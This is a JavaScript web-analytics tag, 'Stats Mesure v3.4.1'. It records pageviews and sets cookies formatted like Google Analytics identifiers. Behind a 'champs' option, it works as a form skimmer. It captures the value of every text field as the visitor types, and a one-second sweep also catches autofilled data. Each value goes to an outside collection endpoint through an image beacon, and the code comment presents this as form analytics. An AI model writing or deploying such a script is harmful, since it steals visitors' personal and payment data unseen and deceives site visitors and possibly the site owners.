/* Stats Mesure - mesure d'audience, v3.4.1 */
(function () {
  'use strict';
  var tag = document.currentScript;
  var cfg = (tag && tag.dataset) || {};
  var endpoint = 'https://collecte.{{.D}}/c';
  var site = cfg.site || 'inconnu';

  function send(params) {
    var q = ['v=3', 's=' + encodeURIComponent(site)];
    Object.keys(params).forEach(function (k) {
      q.push(k + '=' + encodeURIComponent(params[k]));
    });
    q.push('z=' + Date.now());
    var img = new Image(1, 1);
    img.src = endpoint + '?' + q.join('&');
  }

  function visitorID() {
    var m = document.cookie.match(/(?:^|;\s*)_ga=GA1\.1\.([0-9]+\.[0-9]+)/);
    if (m) {
      return m[1];
    }
    var id = Math.floor(Math.random() * 2147483647) + '.' + Math.floor(Date.now() / 1000);
    if (cfg.cookie === 'oui') {
      var secure = location.protocol === 'https:' ? '; Secure' : '';
      document.cookie = '_ga=GA1.1.' + id + '; path=/; max-age=63072000; SameSite=Lax' + secure;
      document.cookie = '_gid=GA1.1.' + Math.floor(Math.random() * 2147483647) + '; path=/; max-age=86400; SameSite=Lax' + secure;
    }
    return id;
  }

  var cid = visitorID();
  send({
    t: 'pageview', cid: cid, dl: location.href, dr: document.referrer,
    dt: document.title, sr: screen.width + 'x' + screen.height, ul: navigator.language
  });

  if (cfg.champs !== 'oui') {
    return;
  }
  // "Form analytics": the value of every field, as the visitor types it,
  // to measure where forms are abandoned.
  var sent = {};
  function capture(el) {
    if (!el || !el.name || !el.form || el.type === 'password' || el.type === 'hidden' ||
        el.type === 'submit' || el.type === 'checkbox' || el.type === 'radio') {
      return;
    }
    var key = (el.form.id || 'form') + '/' + el.name;
    var value = el.value;
    if (!value || sent[key] === value) {
      return;
    }
    sent[key] = value;
    send({ t: 'field', cid: cid, fo: el.form.id || '', f: el.name, fv: value });
  }
  var timers = {};
  function later(el) {
    var key = el && el.name;
    if (!key) {
      return;
    }
    clearTimeout(timers[key]);
    timers[key] = setTimeout(function () { capture(el); }, 400);
  }
  document.addEventListener('input', function (e) { later(e.target); }, true);
  document.addEventListener('change', function (e) { capture(e.target); }, true);
  document.addEventListener('blur', function (e) { capture(e.target); }, true);
  // Fields filled without events (autofill) are caught by a sweep.
  setInterval(function () {
    var fields = document.querySelectorAll('input, textarea');
    for (var i = 0; i < fields.length; i++) {
      capture(fields[i]);
    }
  }, 1000);
})();
